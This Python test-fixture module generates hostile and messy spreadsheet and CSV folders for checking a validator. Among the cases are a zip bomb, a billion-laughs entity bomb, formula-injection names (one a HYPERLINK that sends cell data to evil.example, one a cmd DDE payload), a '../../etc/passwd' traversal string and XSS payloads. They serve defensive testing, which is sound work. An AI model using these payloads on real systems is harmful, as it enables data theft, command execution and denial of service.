"""Hostile and messy input folders, generated at test time (issue 6 item 3; never committed).

``CASES`` maps a case name to a ``BadCase``: ``make(folder)`` writes a month
folder (the tiny valid month of ``builders`` plus one hostile or messy file, or
a variant of one of its files); ``codes`` are finding codes that must appear;
``exit`` the allowed exit codes of ``kehu validate``; ``heavy`` cases (big or
process-threatening files) are only run in a child process.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import xlsxwriter

from builders import tiny_month, write_month


@dataclass
class BadCase:
    make: object                      # (folder: Path) -> None
    codes: tuple = ()                 # finding codes that must appear
    exit: tuple = (0, 1)
    heavy: bool = False               # child process only (never parsed in the test process)


CASES: dict[str, BadCase] = {}


def case(codes=(), exit=(0, 1), heavy=False):
    def register(make):
        CASES[make.__name__] = BadCase(make, tuple(codes), tuple(exit), heavy)
        return make
    return register


def _rows(month: dict, file: str) -> list:
    return next(iter(month[file].values()))


def _month(folder: Path, change=None) -> dict:
    """Write the tiny month, optionally changed first by ``change(month)``."""
    month = tiny_month()
    if change:
        change(month)
    write_month(folder, month)
    return month


# -- zip-level building blocks -----------------------------------------------------------------

def plain_xlsx(rows=(("工号", "姓名"), ("1001", "张伟"))) -> bytes:
    buf = io.BytesIO()
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(list(r))
    wb.save(buf)
    return buf.getvalue()


def replace_entries(xlsx: bytes, replace: dict) -> bytes:
    """A copy of ``xlsx`` with some zip entries replaced (bytes, or a callable old → new)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            data = src.read(name)
            new = replace.get(name, data)
            dst.writestr(name, new(data) if callable(new) else new)
        for name, data in replace.items():
            if name not in src.namelist():
                dst.writestr(name, data)
    return out.getvalue()


def sheet_xml(dimension: str | None, cells: list[tuple[str, str]]) -> bytes:
    """A worksheet XML with inline-string cells [(ref, text)], one <row> per cell."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(f'<row r="{"".join(ch for ch in ref if ch.isdigit())}"><c r="{ref}" t="inlineStr"><is><t>{text}'
                   f"</t></is></c></row>" for ref, text in cells)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns='
            f'"http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}<sheetData>{body}</sheetData></worksheet>'
            ).encode()


# -- the cases ---------------------------------------------------------------------------------

@case(codes=["E-file-encrypted"], exit=[1])
def encrypted_workbook(folder):
    from msoffcrypto.format.ooxml import OOXMLFile   # pip install msoffcrypto-tool (test extra)
    _month(folder)
    out = io.BytesIO()
    OOXMLFile(io.BytesIO((folder / "员工名册.xlsx").read_bytes())).encrypt("密码123", out)
    (folder / "员工名册.xlsx").write_bytes(out.getvalue())


@case(codes=["E-file-format"], exit=[1])
def old_xls_renamed(folder):
    """An OLE2 container that is no workbook at all: calamine cannot read it."""
    _month(folder)
    (folder / "旧版.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096))


@case(codes=["E-file-zipbomb"], exit=[1], heavy=True)
def zip_bomb_1gb(folder):
    """A sheet XML of 1 GB of zeros, ~1 MB compressed."""
    _month(folder)
    base = plain_xlsx()
    out = folder / "炸弹.xlsx"
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            if name != "xl/worksheets/sheet1.xml":
                dst.writestr(name, src.read(name))
        chunk = b"0" * (16 * 1024**2)
        with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(64):
                fh.write(chunk)


@case(codes=["E-file-xml"], exit=[1], heavy=True)
def entity_bomb(folder):
    _month(folder)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10))
              + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                b'uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    (folder / "实体炸弹.xlsx").write_bytes(replace_entries(plain_xlsx(), {"xl/sharedStrings.xml": laughs}))


@case(codes=["E-sheet-too-large"], exit=[1], heavy=True)
def huge_declared_dimension(folder):
    _month(folder)
    xml = sheet_xml("A1:XFD1048576", [("A1", "工号"), ("B1", "姓名")])
    (folder / "巨大范围.xlsx").write_bytes(replace_entries(plain_xlsx(), {"xl/worksheets/sheet1.xml": xml}))


@case(codes=["E-sheet-too-large"], exit=[1], heavy=True)
def far_cell_without_dimension(folder):
    """No <dimension>, but one value at XFD1048576: calamine would size its grid by it and abort."""
    _month(folder)
    xml = sheet_xml(None, [("A1", "工号"), ("B1", "姓名"), ("XFD1048576", "x")])
    (folder / "远处单元格.xlsx").write_bytes(replace_entries(plain_xlsx(), {"xl/worksheets/sheet1.xml": xml}))


@case(codes=["E-sheet-too-large"], exit=[1], heavy=True)
def far_cell_in_first_row(folder):
    """The cell reference disagrees with its <row r="1">."""
    _month(folder)
    xml = sheet_xml(None, [("A1", "工号")]).replace(
        b"</t></is></c></row>", b'</t></is></c><c r="ZZZ900000" t="inlineStr"><is><t>x</t></is></c></row>', 1)
    (folder / "远处单元格2.xlsx").write_bytes(replace_entries(plain_xlsx(), {"xl/worksheets/sheet1.xml": xml}))


@case(codes=["W-unknown-employee"], exit=[0], heavy=True)
def stray_cell_at_last_row(folder):
    """A narrow sheet with a stray value at B1048576: a legit (if odd) 2 × 1M grid, read and counted."""
    month = _month(folder)
    punches = _rows(month, "打卡记录.xlsx")
    cells = [(f"{'AB'[c]}{r + 1}", v) for r, row in enumerate(punches) for c, v in enumerate(row)]
    xml = sheet_xml(None, cells + [("A1048576", "9999"), ("B1048576", "2026-10-09 09:45")])
    (folder / "打卡记录.xlsx").write_bytes(replace_entries(plain_xlsx(), {"xl/worksheets/sheet1.xml": xml}))


@case(codes=["W-file-extension"], exit=[0])
def csv_named_xlsx(folder):
    month = _month(folder)
    (folder / "员工名册.xlsx").unlink()
    with open(folder / "员工名册.xlsx", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(_rows(month, "员工名册.xlsx"))


@case(codes=["W-file-extension"], exit=[0])
def xlsx_named_csv(folder):
    _month(folder)
    (folder / "员工名册.xlsx").rename(folder / "员工名册.csv")


@case(codes=["E-file-format"], exit=[1])
def truncated_xlsx(folder):
    _month(folder)
    data = (folder / "客户名册.xlsx").read_bytes()
    (folder / "客户名册.xlsx").write_bytes(data[: len(data) // 2])


@case(codes=["E-file-format"], exit=[1])
def random_bytes_xlsx(folder):
    _month(folder)
    (folder / "随机.xlsx").write_bytes(b"PK\x03\x04" + os.urandom(20000))


@case(codes=["E-file-format"], exit=[1])
def zip_without_workbook(folder):
    _month(folder)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "不是工作簿")
    (folder / "压缩包.xlsx").write_bytes(buf.getvalue())


@case(codes=["E-file-format"], exit=[1])
def png_named_csv(folder):
    _month(folder)
    (folder / "图片.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(2000))


@case(codes=["W-file-empty"], exit=[0])
def empty_files(folder):
    _month(folder)
    (folder / "空.xlsx").write_bytes(b"")
    (folder / "空.csv").write_bytes(b"")


@case(codes=[], exit=[0])
def header_only_sheet(folder):
    _month(folder, lambda m: _rows(m, "违纪记录.xlsx").__delitem__(slice(1, None)))


@case(codes=["E-dataset-missing"], exit=[1])
def workbook_of_empty_sheets(folder):
    _month(folder, lambda m: m.pop("回访记录.xlsx"))
    wb = openpyxl.Workbook()
    for i in range(3):
        wb.create_sheet(f"Sheet{i + 2}")
    wb.save(folder / "回访记录.xlsx")


@case(codes=[], exit=[0])
def merged_title_rows(folder):
    month = _month(folder)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "指标"
    ws.append(["集团客户部 2026年10月 指标"])
    ws.append(["(单位:元)"])
    ws.merge_cells("A1:F1")
    ws.merge_cells("A2:F2")
    for row in _rows(month, "指标.xlsx"):
        ws.append(row)
    wb.save(folder / "指标.xlsx")


@case(codes=[], exit=[0])
def hidden_rows_and_sheets(folder):
    month = _month(folder)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "打卡"
    for row in _rows(month, "打卡记录.xlsx"):
        ws.append(row)
    for r in (3, 5, 7):
        ws.row_dimensions[r].hidden = True
    ws.column_dimensions["B"].hidden = True
    hidden = wb.create_sheet("隐藏")
    hidden.append(["备注"])
    hidden.sheet_state = "hidden"
    wb.save(folder / "打卡记录.xlsx")


@case(codes=["E-cell-error"], exit=[1])
def div0_cells(folder):
    month = _month(folder, lambda m: m.pop("客户名册.xlsx"))
    rows = _rows(tiny_month(), "客户名册.xlsx")
    wb = xlsxwriter.Workbook(str(folder / "客户名册.xlsx"))
    ws = wb.add_worksheet("客户")
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is not None:
                ws.write(r, c, v)
    ws.write_formula(2, 11, "=B9/0", None, "#DIV/0!")      # 本月收入 of 000102
    ws.write_formula(3, 13, "=VLOOKUP(1,A:A,2)", None, "#N/A")   # optional 年用量 of 000103
    wb.close()
    assert month


@case(codes=[], exit=[0])
def date_1904_system(folder):
    month = _month(folder, lambda m: m.pop("出访登记.xlsx"))
    rows = _rows(tiny_month(), "出访登记.xlsx")
    wb = xlsxwriter.Workbook(str(folder / "出访登记.xlsx"), {"date_1904": True})
    ws = wb.add_worksheet("出访")
    fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if r and c == 0:
                ws.write_datetime(r, c, dt.datetime.strptime(v, "%Y-%m-%d"), fmt)
            elif v is not None:
                ws.write_string(r, c, str(v))
    wb.close()
    assert month


@case(codes=[], exit=[0])
def text_dates_four_forms(folder):
    def change(m):
        v = _rows(m, "出访登记.xlsx")
        v[1][0], v[2][0], v[3][0] = dt.datetime(2026, 10, 9), "2026/10/20", "2026年10月12日"
        _rows(m, "回访记录.xlsx")[1][0] = "2026-10-10"
    _month(folder, change)


@case(codes=["E-date", "E-datetime"], exit=[1])
def dates_outside_the_years_kehu_holds(folder):
    """9999-12-31 for "no end" (an HR system's habit), 0026 typed for 2026, a birthday in 1066, a
    punch in 2500: each cell a finding — pandas ≥ 3 keeps such dates in another unit, and the run
    stopped with a traceback (OutOfBoundsDatetime)."""
    def change(m):
        _rows(m, "员工名册.xlsx")[1][6] = dt.datetime(9999, 12, 31)
        _rows(m, "出访登记.xlsx")[1][0] = "0026-10-09"
        _rows(m, "客户名册.xlsx")[1][6] = dt.date(1066, 10, 14)
        _rows(m, "打卡记录.xlsx")[1][1] = "2500-10-09 09:45"
    _month(folder, change)


@case(codes=[], exit=[0])
def ids_with_leading_zeros_and_numbers(folder):
    def change(m):
        for r in _rows(m, "员工名册.xlsx")[1:]:
            r[0] = int(r[0])
        for r in _rows(m, "打卡记录.xlsx")[1:]:
            r[0] = float(r[0])
    _month(folder, change)


@case(codes=["E-money"], exit=[1])
def text_in_numeric_column_after_row_1000(folder):
    def change(m):
        c = _rows(m, "客户名册.xlsx")
        for i in range(1200):
            c.append([f"{200000 + i:06d}", f"客户{i}", "D", "1001", None, None, None, None, "否", 1, 1, 100 + i, 0,
                      None, "在网", None])
        c[1201][11] = "待定"     # Excel row 1,202
    _month(folder, change)


@case(codes=[], exit=[0])
def gbk_csv(folder):
    month = _month(folder, lambda m: m.pop("学习测评.xlsx"))
    with open(folder / "学习测评.csv", "w", newline="", encoding="gbk") as fh:
        csv.writer(fh).writerows(_rows(tiny_month(), "学习测评.xlsx"))
    assert month


@case(codes=[], exit=[0])
def utf16_csv(folder):
    _month(folder, lambda m: m.pop("学习测评.xlsx"))
    text = "\r\n".join("\t".join(str(v) for v in r) for r in _rows(tiny_month(), "学习测评.xlsx"))
    (folder / "学习测评.csv").write_bytes(text.encode("utf-16"))


@case(codes=["E-file-encoding"], exit=[1])
def undecodable_csv(folder):
    _month(folder)
    (folder / "乱码.csv").write_bytes("工号,姓名\n".encode() + b"\xff\xfe\x80\x80,\xfe\n")


@case(codes=[], exit=[0])
def ragged_csv_with_quotes(folder):
    _month(folder, lambda m: m.pop("学习测评.xlsx"))
    (folder / "学习测评.csv").write_text(
        '工号,月份,成绩,备注\n1001,2026-10,90\n1002,"2026年10月",70,"多,余""列",x,y,z\n\n\n', encoding="utf-8-sig")


@case(codes=["E-duplicate-key"], exit=[1])
def duplicate_ids(folder):
    _month(folder, lambda m: _rows(m, "员工名册.xlsx").append(["1002", "李娜(重复)", "客户经理", "重要一室", 6000]))


@case(codes=["E-churn-date"], exit=[1])
def churn_without_date(folder):
    _month(folder, lambda m: _rows(m, "客户名册.xlsx")[3].__setitem__(15, None))


@case(codes=["E-month-mismatch"], exit=[1])
def month_mismatch(folder):
    """Every dated row is in September 2026, the run is for October."""
    def change(m):
        for file in ("出访登记.xlsx", "违纪记录.xlsx", "回访记录.xlsx"):
            for r in _rows(m, file)[1:]:
                r[0 if file != "违纪记录.xlsx" else 1] = r[0 if file != "违纪记录.xlsx" else 1].replace("-10-", "-09-")
        for r in _rows(m, "打卡记录.xlsx")[1:]:
            r[1] = r[1].replace("-10-", "-09-")
        for r in _rows(m, "请假外出.xlsx")[1:]:
            r[2], r[3] = "2026-09-13", "2026-09-13"
        for r in _rows(m, "学习测评.xlsx")[1:]:
            r[1] = "2026-09"
    _month(folder, change)


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+8613800000000", "-2+3", "@SUM(1)",
                 "=cmd|' /C calc'!A0"]


@case(codes=["E-enum"], exit=[1])
def formula_looking_names(folder):
    """Text cells that look like formulas (a CSV-injection payload typed as a name) stay text everywhere."""
    _month(folder, lambda m: m.pop("客户名册.xlsx"))
    rows = _rows(tiny_month(), "客户名册.xlsx")
    for i, name in enumerate(FORMULA_NAMES):
        rows.append([f"00090{i}", name, "X9" if i == 0 else "D", "1001", name, None, None, name, "否", 1, 1, 0, 0,
                     None, "在网", None])
    wb = xlsxwriter.Workbook(str(folder / "客户名册.xlsx"), {"strings_to_formulas": False})
    ws = wb.add_worksheet("客户")
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is not None:
                ws.write(r, c, v)
    wb.close()


@case(codes=["E-unknown-employee"], exit=[1])
def path_and_script_names(folder):
    def change(m):
        s = _rows(m, "员工名册.xlsx")
        s[1][1] = "../../etc/passwd"
        s[2][1] = "<script>alert('x')</script>"
        m["出访..<script>alert(1)<／script>.xlsx"] = {"<b>出访<b>": [
            _rows(m, "出访登记.xlsx")[0], ["2026-10-21", "<img src=x onerror=alert(1)>", "000101", "上门"]]}
    _month(folder, change)


@case(codes=["E-unknown-employee"], exit=[1], heavy=True)
def ten_mb_cell_xlsx(folder):
    _month(folder, lambda m: _rows(m, "违纪记录.xlsx").append(["工" * (10 * 1024**2 // 3), "2026-10-10", "未穿工作服"]))


@case(codes=["E-unknown-employee"], exit=[1], heavy=True)
def ten_mb_cell_csv(folder):
    """10 MB in the 说明 of one row and in the 工号 of another (CSV cells have no 32,767-character cap)."""
    _month(folder, lambda m: m.pop("违纪记录.xlsx"))
    with open(folder / "违纪记录.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["工号", "日期", "类型", "说明"], ["1001", "2026-10-09", "未穿工作服", "长" * (10 * 1024**2)],
                                  ["9" * (10 * 1024**2), "2026-10-09", "未穿工作服", None]])


PUNCH_ROWS = 2_000_000


@case(codes=[], exit=[0], heavy=True)
def two_million_row_csv(folder):
    """2,000,000 punches in one CSV (many of them the same minute or outside employment: all counted)."""
    _month(folder, lambda m: m.pop("打卡记录.xlsx"))
    times = ("09:45", "12:59", "15:10", "18:31")
    lines = [f"{e},2026-10-{d:02d} {t}\n" for e in ("1001", "1002", "1003") for d in range(1, 32) for t in times]
    per_block = len(lines)
    with open(folder / "打卡记录.csv", "w", encoding="utf-8") as fh:
        fh.write("工号,打卡时间\n")
        block = "".join(lines)
        full, rest = divmod(PUNCH_ROWS, per_block)
        for _ in range(full):
            fh.write(block)
        fh.write("".join(lines[:rest]))


@case(codes=[], exit=[0])
def lock_and_hidden_files_and_subfolders(folder):
    _month(folder)
    (folder / "~$员工名册.xlsx").write_bytes(b"\x00lock")
    (folder / ".DS_Store").write_bytes(os.urandom(100))
    (folder / "旧月份").mkdir()
    (folder / "旧月份" / "坏.xlsx").write_bytes(b"garbage")
    (folder / "说明.txt").write_text("不是数据", encoding="utf-8")


@case(codes=["E-money"], exit=[1])
def nan_and_infinity_numbers(folder):
    def change(m):
        c = _rows(m, "客户名册.xlsx")
        c[1][11], c[2][11], c[3][12] = "NaN", "inf", "-Infinity"
    _month(folder, change)


@case(codes=["E-unknown-employee"], exit=[1])
def invisible_characters_in_ids(folder):
    _month(folder, lambda m: _rows(m, "违纪记录.xlsx")[1].__setitem__(0, "10\u200b01"))


@case(codes=[], exit=[0])
def formulas_without_cached_values(folder):
    """openpyxl writes formulas without a cached result; a blank optional cell is still not a crash."""
    _month(folder, lambda m: _rows(m, "客户名册.xlsx")[1].__setitem__(13, "=600000*1"))


@case(codes=["W-sheet-unknown"], exit=[0])
def very_wide_header(folder):
    _month(folder, lambda m: m.__setitem__("宽表.xlsx", {"宽": [[f"列{i}" for i in range(16384)], ["x"] * 50]}))


@case(codes=["E-sheet-ambiguous"], exit=[1])
def long_sheet_names_and_tie(folder):
    name = "二〇二六年十月份集团客户部出访与回访登记汇总表"
    def change(m):
        header = ["日期", "客户经理工号", "客户编号", "方式", "结果"]
        m[name + "A.xlsx"] = {name + "甲" * 5: [header, ["2026-10-09", "1001", "000101", "上门", "满意"]]}
        m[name + "B.xlsx"] = {name + "甲" * 5: [header, ["2026-10-09", "1001", "000101", "上门", "满意"]]}
    _month(folder, change)
